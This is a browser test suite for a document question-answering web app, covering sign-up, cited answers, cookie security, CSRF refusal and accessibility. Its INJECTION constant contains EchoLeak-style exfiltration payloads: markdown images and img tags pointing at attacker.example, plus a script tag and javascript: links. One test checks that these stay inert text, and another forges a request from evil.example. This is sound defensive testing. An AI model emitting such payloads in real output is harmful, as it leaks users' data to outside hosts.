import { AxeBuilder } from '@axe-core/playwright';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { browserTestsEnabled, DESKTOP, PHONE } from '../helpers/browser.js';
import {
  ask,
  type BrowserService,
  createAccount,
  ESPRESSO_CARE,
  openFromMainNav,
  startBrowserService,
  TEST_PASSWORD,
  uploadAndWait,
} from '../helpers/browser-service.js';

/** A document that tries what answer engines have leaked data with (EchoLeak): all must stay text. */
const INJECTION = [
  'The vault code is rotated every Monday by the security team ![x](https://attacker.example/?d=secret).',
  'The vault code rotation is logged <img src="https://attacker.example/pixel.png"> in the audit trail.',
  "The vault code must never be shared <script>alert('xss')</script> over chat.",
  "The vault code guide is [here](javascript:alert('link')) and [there][ref] for the rotation.",
  '',
  "[ref]: javascript:alert('ref')",
].join('\n');

/** The document's page is open at a cited passage: that passage alone is marked, and has focus. */
async function expectCitedPassage(page: Page, title: string, text: string): Promise<void> {
  await page.getByRole('heading', { name: title, level: 1 }).waitFor();
  expect(new URL(page.url()).searchParams.get('passage')).toMatch(/^\d+$/);
  const marked = page.locator('.passages mark');
  await marked.first().waitFor();
  // Only the cited passage is marked: each of its blocks (prose, code) in a mark of its own.
  expect(await marked.count()).toBe(await page.locator('.passage-cited mark').count());
  expect(await marked.first().textContent()).toContain(text);
  await expect
    .poll(() =>
      page.evaluate(
        () =>
          (globalThis as unknown as { document: { activeElement: { id: string } | null } }).document
            .activeElement?.id ?? '',
      ),
    )
    .toBe(`passage-${new URL(page.url()).searchParams.get('passage')}`);
}

async function waitForText(page: Page, text: string, timeoutMs = 120_000): Promise<void> {
  await page.getByText(text, { exact: false }).first().waitFor({ timeout: timeoutMs });
}

/** Fills the sign-in form and presses `button` ("Sign in" or "Create account"). */
async function submitSignIn(
  page: Page,
  fields: { email: string; password: string; name?: string },
  button: string,
) {
  await page.getByLabel('Email', { exact: true }).fill(fields.email);
  await page.getByLabel('Password', { exact: true }).fill(fields.password);
  if (fields.name !== undefined) await page.getByLabel('Name', { exact: true }).fill(fields.name);
  await page.getByRole('button', { name: button, exact: true }).click();
}

describe.skipIf(!browserTestsEnabled())('the web app in Chromium', () => {
  let app: BrowserService;
  let origin: string;

  beforeAll(async () => {
    app = await startBrowserService();
    origin = app.origin;
  });
  afterAll(() => app?.close());

  const open = (viewport?: { width: number; height: number }) => app.open(viewport);

  for (const [size, viewport] of [
    ['desktop', DESKTOP],
    ['375 px', PHONE],
  ] as const) {
    it(`creates an account, uploads, asks and reads a cited answer, signs out and in (${size})`, async () => {
      const { page, foreignRequests, pageErrors } = await open(viewport);
      const email = `ada-${viewport.width}@example.com`;
      await page.goto('/');
      await page.getByRole('heading', { name: 'Sign in', level: 1 }).waitFor();

      // A short password is refused next to its field.
      await submitSignIn(page, { email, password: 'short', name: 'Ada' }, 'Create account');
      const password = page.getByLabel('Password', { exact: true });
      await expect.poll(() => password.getAttribute('aria-invalid')).toBe('true');
      const describedBy = (await password.getAttribute('aria-describedby')) ?? '';
      const passwordError = await page.locator(`[id="${describedBy.split(' ')[0]}"]`).textContent();
      expect(passwordError).toMatch(/8/);

      await submitSignIn(page, { email, password: TEST_PASSWORD, name: 'Ada' }, 'Create account');
      const mainNav = page.getByRole('navigation', { name: 'Main' });
      await mainNav.waitFor();
      expect(await mainNav.getByRole('link', { name: 'Ask' }).count()).toBe(1);
      expect(await mainNav.getByRole('link', { name: 'Documents' }).count()).toBe(1);

      await uploadAndWait(page, [ESPRESSO_CARE]);
      await openFromMainNav(page, 'Ask');
      await ask(page, 'How do I descale the espresso machine?');

      const answer = page.getByRole('region', { name: 'Answer' }).last();
      expect(await answer.textContent()).toMatch(/citric acid/);
      // Each [n] is a chip: focusing it shows the source's title and the cited passage. The upload has
      // no URL, so the chip is a link to its page in the app.
      const chip = answer.getByRole('link', { name: '[1]', exact: true }).first();
      await chip.focus();
      const tooltip = page.getByRole('tooltip').filter({ hasText: 'Espresso machine care' }).first();
      await tooltip.waitFor({ state: 'visible' });
      // Escape dismisses it (WCAG 1.4.13), uncovering what lies under it.
      await page.keyboard.press('Escape');
      await tooltip.waitFor({ state: 'hidden' });
      const sources = page.getByRole('list', { name: 'Sources' }).last();
      const sourceLink = sources.getByRole('link', { name: 'Espresso machine care' });
      expect(await sourceLink.count()).toBe(1);
      expect(await sourceLink.getAttribute('href')).toMatch(/^\/documents\/\d+\?passage=\d+$/);
      // The file the title was taken from, beside it (issue 34: titles keep the file name).
      expect(await sources.getByRole('listitem').first().textContent()).toContain('espresso-care.md');

      // The chat is in the sidebar, named by its title: beside the page on a desktop, above it on a
      // phone (always shown, no button to open it).
      const chats = page.getByRole('navigation', { name: 'Chats' });
      await chats.getByRole('link').first().waitFor();
      expect(await chats.isVisible()).toBe(true);
      expect(await chats.getByRole('link').count()).toBe(1);

      // Clicking the chip opens the upload's page in the app, the cited passage highlighted and focused.
      await chip.click();
      await expectCitedPassage(
        page,
        'Espresso machine care',
        'Descale the espresso machine every two months',
      );

      // Back in the chat (read from its stored history now), the source link opens the same passage.
      await page.goBack();
      await page.waitForURL(/\/chats\/[^/?]+$/);
      // The pointer still rests where the chip was, whose tooltip would cover the list: move it off.
      await page.mouse.move(0, 0);
      await page
        .getByRole('list', { name: 'Sources' })
        .last()
        .getByRole('link', { name: 'Espresso machine care' })
        .click();
      await expectCitedPassage(
        page,
        'Espresso machine care',
        'Descale the espresso machine every two months',
      );

      // Sign out, a wrong password, then the right one.
      await page.getByRole('button', { name: 'Sign out' }).click();
      await page.getByRole('heading', { name: 'Sign in', level: 1 }).waitFor();
      await submitSignIn(page, { email, password: 'wrong password!' }, 'Sign in');
      await page.getByRole('alert').or(page.locator('[aria-invalid="true"]')).first().waitFor();
      await submitSignIn(page, { email, password: TEST_PASSWORD }, 'Sign in');
      await page.getByRole('navigation', { name: 'Main' }).waitFor();

      expect(foreignRequests).toEqual([]);
      expect(pageErrors).toEqual([]);
    }, 600_000);
  }

  it('quotes a document made to leak data without running or requesting anything', async () => {
    const { page, foreignRequests, dialogs, pageErrors } = await open();
    await createAccount(page, 'mallory-target@example.com');
    await uploadAndWait(page, [
      { name: 'vault-policy.txt', mimeType: 'text/plain', text: INJECTION, title: 'vault-policy' },
    ]);
    await openFromMainNav(page, 'Ask');
    await ask(page, 'How is the vault code rotated and shared?');

    const answer = page.getByRole('region', { name: 'Answer' }).last();
    expect(await answer.textContent()).toMatch(/vault code/);
    // Open the document's page too: its text is shown as it is, and must stay text.
    await page.getByRole('list', { name: 'Sources' }).last().getByRole('link').first().click();
    await waitForText(page, 'The vault code is rotated every Monday');

    expect(foreignRequests).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(pageErrors).toEqual([]);
    expect(await page.locator('img[src*="attacker"], script:not([src])').count()).toBe(0);
    const hrefs = await page
      .locator('a[href]')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
    expect(hrefs.filter((href) => !/^(\/|https?:|mailto:|#)/.test(href ?? ''))).toEqual([]);
  }, 600_000);

  it('keeps the session in an HttpOnly, SameSite=Strict cookie and refuses cross-origin writes', async () => {
    const { page } = await open();
    await createAccount(page, 'cookie-owner@example.com');
    const cookies = await page.context().cookies();
    const session = cookies.find((cookie) => cookie.name === 'ka_session');
    expect(session).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/' });
    const scriptCookies = await page.evaluate(
      () => (globalThis as unknown as { document: { cookie: string } }).document.cookie,
    );
    expect(scriptCookies).not.toContain('ka_session');

    const cookie = `ka_session=${session?.value}`;
    const search = { query: 'anything' };
    // The page itself may write (its fetch sends this origin).
    const own = await page.evaluate(async (body) => {
      const response = await fetch('/v1/search', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify(body),
      });
      return response.status;
    }, search);
    expect(own).toBe(200);
    // Another site's page, carrying the cookie, may not.
    const forged = await fetch(`${origin}/v1/search`, {
      method: 'POST',
      headers: { cookie, origin: 'https://evil.example', 'content-type': 'application/json' },
      body: JSON.stringify(search),
    });
    expect(forged.status).toBe(403);
    expect(await forged.json()).toEqual({ detail: 'Cross-origin request refused' });

    // Signing out revokes the token the cookie held.
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByRole('heading', { name: 'Sign in', level: 1 }).waitFor();
    const after = await fetch(`${origin}/v1/users/me`, { headers: { cookie } });
    expect(after.status).toBe(401);
  }, 600_000);

  it('has no serious or critical accessibility violation on any page (axe)', async () => {
    const { page } = await open();
    const audit = async (label: string) => {
      const results = await new AxeBuilder({ page }).analyze();
      const severe = results.violations
        .filter((violation) => violation.impact === 'serious' || violation.impact === 'critical')
        .map((violation) => `${label}: ${violation.id} (${violation.nodes.length})`);
      expect(severe).toEqual([]);
    };
    await page.goto('/');
    await page.getByRole('heading', { name: 'Sign in', level: 1 }).waitFor();
    await audit('sign in');
    await createAccount(page, 'axe@example.com');
    await uploadAndWait(page, [ESPRESSO_CARE]);
    await audit('documents');
    await openFromMainNav(page, 'Ask');
    await ask(page, 'How do I descale the espresso machine?');
    await audit('ask, with an answer');
    await page.getByRole('list', { name: 'Sources' }).last().getByRole('link').first().click();
    await page.getByRole('heading', { name: 'Espresso machine care', level: 1 }).waitFor();
    await audit('document');
  }, 600_000);
});
